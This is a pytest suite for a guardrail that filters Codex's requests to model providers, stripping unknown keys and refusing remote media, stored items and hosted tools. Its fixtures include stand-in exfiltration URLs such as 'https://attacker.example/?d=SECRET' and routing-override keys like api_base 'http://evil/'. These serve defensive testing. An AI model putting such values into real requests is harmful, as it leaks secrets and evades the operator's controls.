"""What of a request is none of Codex's is taken out or refused."""

import json
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codexrun_pod.gate.policy import shape
from codexrun_pod.gate.policy.rules import admit
from codexrun_pod.gate.policy.tools import RUN_BY_CODEX, SEARCH
from codexrun_pod.gate.policy.verdicts import Admitted, Denied, Limits
from codexrun_pod.termination import LONGEST_MESSAGE

LIMITS = Limits(models=frozenset({"m"}), max_tokens=1000)
DATA = "data:image/png;base64,AAAA"


def user(*parts):
    return {"type": "message", "role": "user", "content": list(parts)}


def text(words, **more):
    return {"type": "input_text", "text": words, **more}


def image(url, **more):
    return {"type": "input_image", "image_url": url, **more}


def tool(name="exec_command", **more):
    return {
        "type": "function",
        "name": name,
        "description": "d",
        "strict": False,
        "parameters": {"type": "object", "properties": {"Any": {"x-key": 1}}},
        **more,
    }


# Every kind of item that a conversation of Codex with a real model has.
CONVERSATION = [
    {"type": "additional_tools", "role": "developer", "tools": [tool()]},
    user(text("hi"), image(DATA, detail="high")),
    {"role": "user", "content": "without a type"},
    {
        "type": "reasoning",
        "summary": [{"type": "summary_text", "text": "s"}],
        "content": None,
        "encrypted_content": "e",
    },
    {"type": "function_call", "call_id": "c", "name": "exec_command", "arguments": "{}"},
    {"type": "function_call_output", "call_id": "c", "output": "text"},
    {"type": "function_call_output", "call_id": "c", "output": [image(DATA)]},
    {"type": "custom_tool_call", "call_id": "c", "name": "exec", "input": "x", "status": "s"},
    {"type": "custom_tool_call_output", "call_id": "c", "output": [text("o")]},
    {
        "type": "web_search_call",
        "status": "completed",
        "action": {"type": "open_page", "url": "https://example.com/"},
    },
    {
        "type": "tool_search_call",
        "call_id": "c",
        "execution": "client",
        "arguments": {"query": "x"},
    },
    {"type": "tool_search_output", "call_id": "c", "execution": "client", "tools": [tool()]},
    {"type": "image_generation_call", "status": "completed", "result": "AAAA"},
    {"type": "compaction", "encrypted_content": "e"},
    {"type": "configuration_update", "reasoning": {"effort": "low"}},
    {
        "type": "message",
        "role": "assistant",
        "phase": "final_answer",
        "content": [{"type": "output_text", "text": "bye", "annotations": [{"url": "x"}]}],
    },
]
PLAIN = {
    "model": "m",
    "stream": True,
    "store": False,
    "instructions": "i",
    "input": CONVERSATION,
    "tools": [
        tool(),
        {"type": "namespace", "name": "n", "description": "d", "tools": [tool("update_plan")]},
        {
            "type": "custom",
            "name": "apply_patch",
            "description": "d",
            "format": {"type": "grammar", "syntax": "lark", "definition": "g"},
        },
        {"type": "tool_search", "execution": "client", "description": "d", "parameters": {}},
    ],
    "tool_choice": "auto",
    "parallel_tool_calls": True,
    "reasoning": {"effort": "high", "summary": "auto"},
    "text": {"verbosity": "low", "format": {"type": "json_schema", "schema": {"$id": "x"}}},
    "include": ["reasoning.encrypted_content"],
    "prompt_cache_key": "k",
    "client_metadata": {"x-codex-installation-id": "i"},
    "max_output_tokens": 100,
}


def judge(limits=LIMITS, **change):
    return admit(json.dumps({**PLAIN, **change}).encode(), limits)


def sent(**change):
    verdict = judge(**change)
    assert isinstance(verdict, Admitted), verdict
    return json.loads(verdict.body), verdict.dropped


def test_what_codex_sends_passes_as_it_is():
    assert sent() == (PLAIN, ())


def test_the_table_has_what_the_gate_expects_of_it():
    assert RUN_BY_CODEX | {SEARCH} <= shape.TOOLS.keys()
    assert set(shape.TABLE["codex"]) >= {"0.169.0", "0.171.0"}
    holders = {"request": shape.REQUEST}
    for place in shape.OBJECTS:
        holder, _, key = place.rpartition(".")
        if holder in {"item", "part", "tool"}:
            kinds = {"item": shape.ITEMS, "part": shape.PARTS, "tool": shape.TOOLS}[holder]
            assert any(key in keys for keys in kinds.values()), place
        else:
            assert key in (holders.get(holder) or shape.OBJECTS[holder]), place


def test_the_page_about_it_has_the_versions_of_the_table():
    page = Path(__file__).parents[3] / "docs/guardrails.md"
    versions = shape.TABLE["codex"]
    assert f"of the versions {versions[0]} to {versions[-1]}" in page.read_text()


REFUSED = [
    ("an image of the web", user(image("https://attacker.example/?d=SECRET")), "image_url"),
    ("in capitals", user(image("HTTPS://attacker.example/")), "image_url"),
    ("after a blank", user(image(" https://attacker.example/")), "image_url"),
    ("as an object", user(image({"url": "https://attacker.example/"})), "image_url"),
    ("as a list", user(image(["https://attacker.example/"])), "image_url"),
    ("by another scheme", user(image("gs://bucket/object")), "image_url"),
    ("without a scheme", user(image("//attacker.example/x")), "image_url"),
    ("a sound of the web", user({"type": "input_audio", "audio_url": "https://x/"}), "audio_url"),
    ("a file of the organisation", user({"type": "input_image", "file_id": "file-1"}), "file_id"),
    (
        "beside an image of its own",
        user(image(DATA, file_id="file-1")),
        "file_id",
    ),
    ("a file of the web", user(text("x", file_url="https://x/")), "file_url"),
    (
        "a part that Codex does not have",
        user({"type": "input_file", "file_url": "https://attacker.example/x.pdf"}),
        "'input_file'",
    ),
    ("a part without a type", user({"text": "x"}), "None"),
    ("a part that is no object", user("x"), "None"),
    ("parts as an object", {"role": "user", "content": {"type": "input_text"}}, "list of parts"),
    (
        "an image of the web in a tool's output",
        {"type": "function_call_output", "call_id": "c", "output": [image("https://x/")]},
        "image_url",
    ),
    ("a stored item", {"type": "item_reference", "id": "msg_1"}, "'item_reference'"),
    ("a stored item, by its id alone", {"id": "msg_1"}, "'item_reference'"),
    ("a stored item, without saying so", {"type": None, "id": "msg_1"}, "None"),
    ("an item that Codex does not have", {"type": "mcp_approval_response"}, "'mcp_approval"),
    ("an item of another case", {"type": "Message", "role": "user"}, "'Message'"),
    ("a hosted call", {"type": "code_interpreter_call", "container_id": "c"}, "'code_interpre"),
    ("what Codex makes of what it does not know", {"type": "other"}, "'other'"),
    ("an item that is no object", "hi", "None"),
    ("an item whose type is a list", {"type": ["message"]}, "None"),
    ("tools of an item as an object", {"type": "additional_tools", "tools": {}}, "must be a list"),
]


@pytest.mark.parametrize(
    ("item", "reason"), [row[1:] for row in REFUSED], ids=[row[0] for row in REFUSED]
)
def test_what_the_provider_would_have_to_find_ends_the_run(item, reason):
    verdict = judge(input=[*CONVERSATION, item])
    assert isinstance(verdict, Denied)
    assert (verdict.code, verdict.final) == ("guardrail", True)
    assert reason in verdict.message


# JSON that is data to whoever reads it; nothing else may hold a list or an object but those whose
# every key is known.
DATA_PLACES = {
    "request.text.format.schema",
    "item.arguments of tool_search_call",
    "part.annotations of output_text",
    "part.logprobs of output_text",
    "tool.parameters of function",
    "tool.parameters of tool_search",
}
FLAT_PLACES = {  # any names, but texts only
    "request.client_metadata",
    "item.action.env of local_shell_call",
    "item.action.env of web_search_call",
}
REMOTE_URL = "https://attacker.example/?d=SECRET"
REMOTE = {
    "parts": [image(REMOTE_URL)],
    "a part": image(REMOTE_URL),
    "a message": [user(image(REMOTE_URL))],
    "a map of parts": {"a": [image(REMOTE_URL)]},
    "a list of lists": [[REMOTE_URL]],
    "a key": {"api_base": [REMOTE_URL]},
}


def places():
    """Yield each place of the table, and the change of a request that brings a value to it."""

    def with_objects(holder, key, name, kind, wrap):
        yield f"{name}.{key}{kind}", lambda value: wrap({**holder, key: value})
        for inner in shape.OBJECTS.get(f"{name}.{key}", ()):
            yield from with_objects(
                {}, inner, f"{name}.{key}", kind, lambda value: wrap({**holder, key: value})
            )

    for key in shape.REQUEST:
        yield from with_objects({}, key, "request", "", lambda change: change)
    for kind, keys in shape.ITEMS.items():
        for key in keys:
            yield from with_objects(
                {"type": kind}, key, "item", f" of {kind}", lambda item: {"input": [item]}
            )
    for kind, keys in shape.PARTS.items():
        for key in keys:
            yield from with_objects(
                {"type": kind}, key, "part", f" of {kind}", lambda part: {"input": [user(part)]}
            )
    for kind, keys in shape.TOOLS.items():
        for key in keys:
            yield from with_objects(
                {"type": kind}, key, "tool", f" of {kind}", lambda tool: {"tools": [tool]}
            )


WEB = Limits(models=frozenset({"m"}), tools=frozenset({"shell", "web_search"}))


@pytest.mark.parametrize(
    ("place", "change"), list(places()), ids=lambda value: value if isinstance(value, str) else ""
)
def test_no_place_takes_content_that_codex_does_not_send_there(place, change):
    """A server may read a list of parts as content wherever it stands, and fetch what it names."""
    passed = []
    for name, value in REMOTE.items():
        verdict = judge(WEB, **change(value))
        if isinstance(verdict, Denied):
            assert (verdict.code, verdict.final) == ("guardrail", True)
        elif REMOTE_URL.encode() in verdict.body:
            passed.append(name)
    if place in DATA_PLACES:
        assert passed == list(REMOTE)
    else:
        assert passed == (["a part"] if place in FLAT_PLACES else [])


NO_TEXTS = [
    ({"instructions": [user(image(REMOTE_URL))]}, "instructions must be a string"),
    ({"prompt_cache_key": {"a": 1}}, "prompt_cache_key must be a string"),
    ({"client_metadata": {"fallbacks": ["o1-pro"]}}, "client_metadata must be an object whose"),
    ({"client_metadata": "x"}, "client_metadata must be an object whose values are strings"),
    ({"parallel_tool_calls": {}}, "parallel_tool_calls must be a boolean or a number"),
    ({"text": {"verbosity": []}}, "text.verbosity must be a string"),
    ({"input": [user(text({"image_url": REMOTE_URL}))]}, "part.text must be a string"),
    (
        {"input": [{"type": "custom_tool_call", "name": "n", "input": [image(REMOTE_URL)]}]},
        "item.input must be a string",
    ),
    (
        {"input": [{"type": "function_call", "name": "n", "arguments": image(REMOTE_URL)}]},
        "item.arguments must be a string",
    ),
    (
        {"input": [{"type": "local_shell_call", "action": {"command": [[]]}}]},
        "item.action.command must be a list of strings",
    ),
    ({"tools": [tool(["exec_command"])]}, "tool.name must be a string"),
    ({"tools": [tool(description=["d"])]}, "tool.description must be a string"),
]


@pytest.mark.parametrize(("change", "reason"), NO_TEXTS, ids=[row[1] for row in NO_TEXTS])
def test_a_refusal_names_the_key_that_has_no_text(change, reason):
    verdict = judge(**change)
    assert isinstance(verdict, Denied)
    assert (verdict.code, verdict.final, reason in verdict.message) == ("guardrail", True, True)


@pytest.mark.parametrize("scheme", ["data:", "DATA:", "Data:", "dAtA:"])
def test_a_scheme_is_read_in_any_case(scheme):
    conversation = [user(image(f"{scheme}image/png;base64,AAAA"))]
    assert sent(input=conversation)[0]["input"] == conversation


HOSTED = [
    "x_search",
    "code_execution",
    "collections_search",
    "bing_grounding",
    "openrouter:web_search",
    "browser_automation_preview",
    "Web_Search",
    "web_search_preview",
    "mcp",
    "MCP",
    "file_search",
    "computer_use_preview",
    "image_generation",
    "local_shell",
    "Function",
    "",
    None,
    7,
]
PLACES = {
    "top": lambda tool: {"tools": [tool]},
    "in a namespace": lambda tool: {"tools": [{"type": "namespace", "name": "n", "tools": [tool]}]},
    "in the input": lambda tool: {"input": [{"type": "additional_tools", "tools": [tool]}]},
    "found": lambda tool: {"input": [{"type": "tool_search_output", "tools": [tool]}]},
}


@pytest.mark.parametrize(("kind", "place"), list(product(HOSTED, PLACES)))
def test_a_tool_that_is_not_run_by_codex_ends_the_run(kind, place):
    everything = Limits(models=frozenset({"m"}), tools=frozenset({"shell", "web_search"}))
    verdict = judge(everything, **PLACES[place]({"type": kind, "name": "exec_command"}))
    assert isinstance(verdict, Denied)
    assert (verdict.code, verdict.final) == ("guardrail", True)
    assert "hosted tool" in verdict.message


WRONG_TOP = [
    ({"input": {"type": "message"}}, "input must be a list"),
    ({"input": 7}, "input must be a list"),
    ({"tools": {"0": {"type": "web_search"}}}, "tools must be a list"),
    ({"tool_choice": {"type": "mcp", "server_label": "x"}}, "tool_choice must be a string"),
    ({"store": True}, "store"),
    ({"previous_response_id": "r"}, "previous_response_id"),
]


@pytest.mark.parametrize(("change", "reason"), WRONG_TOP, ids=[str(w[0])[:40] for w in WRONG_TOP])
def test_forms_that_codex_does_not_send_end_the_run(change, reason):
    verdict = judge(**change)
    assert isinstance(verdict, Denied)
    assert (verdict.final, reason in verdict.message) == (True, True)


def test_nothing_is_stored_unless_asked_for():
    for change in ({"store": None}, {"store": False}, {}):
        body = {key: value for key, value in PLAIN.items() if key != "store"} | change
        verdict = admit(json.dumps(body).encode(), LIMITS)
        assert json.loads(verdict.body)["store"] is False
        assert verdict.dropped == ()


GATEWAYS = {
    # Keys that gateways and servers in front of models are known to obey.
    "OpenRouter": {
        "models": ["o1-pro"],
        "route": "fallback",
        "plugins": [{"id": "web"}],
        "provider": {"order": ["x"]},
    },
    "LiteLLM": {
        "fallbacks": ["o1-pro"],
        "api_base": "http://evil/",
        "extra_headers": {"x": "y"},
        "extra_body": {"model": "o1-pro"},
        "n": 8,
        "max_tokens": 10**6,
        "max_completion_tokens": 10**6,
    },
    "xAI": {"search_parameters": {"mode": "on"}},
    "OpenAI": {
        "metadata": {"a": "b"},
        "user": "x",
        "truncation": "auto",
        "prompt_cache_retention": "24h",
        "context_management": [{"type": "compaction"}],
        "moderation": None,
    },
}


@pytest.mark.parametrize("gateway", GATEWAYS)
def test_keys_that_codex_does_not_send_are_taken_out(gateway):
    body, dropped = sent(**GATEWAYS[gateway])
    assert body == PLAIN
    assert sorted(dropped) == sorted(f"request.{key}" for key in GATEWAYS[gateway])


def variants(key):
    """Spellings that a reader which does not mind the case takes for `key`; ſ and K fold, too."""
    spellings = {key.upper(), key.title(), key.capitalize(), key.swapcase(), key.replace("s", "ſ")}
    folded = {key.replace("k", "\u212a"), key[:-1] + key[-1].upper()}
    return sorted((spellings | folded) - {key})


@pytest.mark.parametrize(
    ("key", "variant"), [(key, each) for key in shape.REQUEST for each in variants(key)]
)
def test_a_known_key_in_another_case_is_taken_out(key, variant):
    body, dropped = sent(**{variant: True})
    assert (body, dropped) == (PLAIN, (f"request.{variant}",))


def strange(holder):
    return {**holder, "Type": "x", "extra_body": {}}


NESTED = [
    ("reasoning", {"reasoning": strange({"effort": "low"})}),
    ("text.format", {"text": {"format": strange({"type": "json_schema"})}}),
    ("an item", {"input": [strange(user(text("x")))]}),
    ("a part", {"input": [user(strange(text("x")))]}),
    ("an item's action", {"input": [{"type": "web_search_call", "action": strange({})}]}),
    ("a tool", {"tools": [strange(tool())]}),
    ("a tool of a namespace", {"tools": [{"type": "namespace", "tools": [strange(tool())]}]}),
    ("a tool in the input", {"input": [{"type": "additional_tools", "tools": [strange(tool())]}]}),
    (
        "a custom tool's format",
        {"tools": [{"type": "custom", "name": "apply_patch", "format": strange({"type": "t"})}]},
    ),
]


@pytest.mark.parametrize("change", [row[1] for row in NESTED], ids=[row[0] for row in NESTED])
def test_keys_are_taken_out_at_every_depth(change):
    verdict = judge(**change)
    assert b"extra_body" not in verdict.body
    assert b'"Type"' not in verdict.body
    assert len(verdict.dropped) == 2


def test_the_data_of_tools_and_calls_is_not_looked_into():
    schema = {"type": "object", "properties": {"Store": {"extra_body": 1}}}
    body, dropped = sent(tools=[tool(parameters=schema)])
    assert body["tools"][0]["parameters"] == schema
    assert dropped == ()


def may_have_an_id(item):
    return "id" in shape.ITEMS[item.get("type", "message")]


def test_ids_pass_with_whole_items():
    items = [{**item, "id": "x_1"} for item in CONVERSATION if may_have_an_id(item)]
    body, dropped = sent(input=items)
    assert (body["input"], dropped) == (items, ())


@pytest.mark.parametrize("kind", sorted(shape.ITEMS))
def test_an_id_without_the_item_is_no_reference(kind):
    """What the provider has stored under it would come into the conversation."""
    sealed = "" if kind in {"reasoning", "compaction", "context_compaction"} else "junk"
    hollow = {"type": kind, "id": "x_1", "encrypted_content": sealed, "result": "", "status": "s"}
    body, _ = sent(input=[hollow])
    assert "id" not in body["input"][0]


def test_only_known_values_are_included():
    included = ["reasoning.encrypted_content", "file_search_call.results", 7, ["x"]]
    body, dropped = sent(include=included)
    assert body["include"] == ["reasoning.encrypted_content"]
    assert len(dropped) == 3
    assert sent(include="file_search_call.results")[0]["include"] == []


OFFERS = json.loads((Path(__file__).parents[2] / "support/codex_offers.json").read_bytes())
OFFERED_EFFORTS = {
    effort
    for version in OFFERS.values()
    for model in version["models"].values()
    for effort in model["efforts"]
}
LONG = "x" * 10**6
LONG_NAMES = [
    {"include": [LONG]},
    {"include": LONG},
    {"include": [[LONG], {"a": LONG}]},
    {LONG: 1},
    {"input": [{**user(), LONG: 1}]},
    {"text": {LONG: 1}},
]


@pytest.mark.parametrize("change", LONG_NAMES, ids=lambda change: str(change)[:40])
def test_the_name_of_what_is_taken_out_is_short_whatever_was_sent(change):
    dropped = sent(**change)[1]
    assert dropped
    assert all(len(name) < 200 for name in dropped)


def test_of_many_that_are_taken_out_only_some_are_named():
    many = {f"k{n}": 1 for n in range(10_000)}
    dropped = sent(**many)[1]
    assert (len(dropped), len(set(dropped)) <= shape.MAX_NAMED_KEYS + 1) == (10_000, True)
    assert dropped[0] == "request.k0"


class Counted(str):
    """A text that counts how often it is compared."""

    comparisons = 0
    __hash__ = str.__hash__

    def __eq__(self, other):
        Counted.comparisons += 1
        return str.__eq__(self, other)


def test_each_value_of_include_is_looked_up_once():
    known = "reasoning.encrypted_content"
    body = {"include": [Counted(known)] * 100 + [Counted("x" + known)] * 100}
    assert len(shape.drop_unknown(body)) == 100
    assert Counted.comparisons <= 200
    assert body["include"] == [known] * 100


EFFORTS = [
    ("one of the list", {"reasoning": {"effort": "low"}}, True),
    ("none", {"reasoning": {"summary": "auto"}}, True),
    ("no reasoning", {"reasoning": None}, True),
    ("another", {"reasoning": {"effort": "xhigh"}}, False),
    ("in capitals", {"reasoning": {"effort": "LOW"}}, False),
    ("a list", {"reasoning": {"effort": ["low"]}}, False),
    (
        "another, from some item on",
        {"input": [{"type": "configuration_update", "reasoning": {"effort": "xhigh"}}]},
        False,
    ),
]


@pytest.mark.parametrize(
    ("change", "allowed"), [row[1:] for row in EFFORTS], ids=[row[0] for row in EFFORTS]
)
def test_efforts_are_those_of_the_job_type(change, allowed):
    limits = Limits(models=frozenset({"m"}), efforts=frozenset({"low", "medium"}))
    change = {"input": [], "reasoning": None, **change}
    verdict = judge(limits, **change)
    assert isinstance(verdict, Admitted) == allowed
    if not allowed:
        assert "this run may use low, medium" in verdict.message
    effort = change["reasoning"] and change["reasoning"].get("effort")
    is_text = isinstance(effort, str | None)
    assert isinstance(judge(**change), Admitted) == is_text, f"without a list any: {effort}"


@pytest.mark.parametrize("listed", sorted(OFFERED_EFFORTS))
def test_a_listed_effort_passes_as_codex_sends_it_and_no_other_does(listed):
    """Codex offers `ultra`, and sends something else: which depends on the model, and on whether
    this version of Codex knows it."""
    limits = Limits(models=frozenset({"m"}), efforts=frozenset({listed}))
    sent_efforts = {listed} | ({"max", "xhigh", "medium"} if listed == "ultra" else set())
    passed = {
        effort
        for effort in OFFERED_EFFORTS | {"none", "minimal"}
        if isinstance(judge(limits, input=[], reasoning={"effort": effort}), Admitted)
    }
    assert passed == sent_efforts


LONG_VALUES = [
    {"model": LONG},
    {"service_tier": LONG},
    {"reasoning": {"effort": LONG}},
    {"tools": [{"type": LONG}]},
    {
        "tools": [
            {"type": "custom", "name": "exec", "description": f"declare const tools: {{ {LONG}("}
        ]
    },
    {"input": [{"type": LONG}]},
    {"input": [user({"type": LONG})]},
]


@pytest.mark.parametrize("change", LONG_VALUES, ids=lambda change: str(change)[:40])
def test_a_refusal_is_short_whatever_was_sent(change):
    limits = Limits(models=frozenset({"m"}), efforts=frozenset({"low"}), tools=frozenset())
    verdict = judge(limits, **{"input": [], "tools": [], **change})
    assert isinstance(verdict, Denied)
    assert len(verdict.message) <= LONGEST_MESSAGE


ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: (
        st.lists(inner)
        | st.dictionaries(
            st.sampled_from(["type", "Type", "tools", "content", "id", "action"]) | st.text(), inner
        )
    ),
    max_leaves=20,
)


@given(st.dictionaries(st.sampled_from(sorted(PLAIN)) | st.text(), ANY_JSON))
def test_whatever_passes_has_keys_of_codex_only(change):
    verdict = judge(**change)
    if isinstance(verdict, Denied):
        return
    body = json.loads(verdict.body)
    assert body.keys() <= shape.REQUEST.keys()
    assert shape.refusal(body) is None
    assert shape.drop_unknown(body) == [], "once cleaned, it stays clean"
    items = body["input"] if isinstance(body["input"], list) else []
    for item in items:
        assert item.keys() <= shape.ITEMS[item.get("type", "message")].keys()
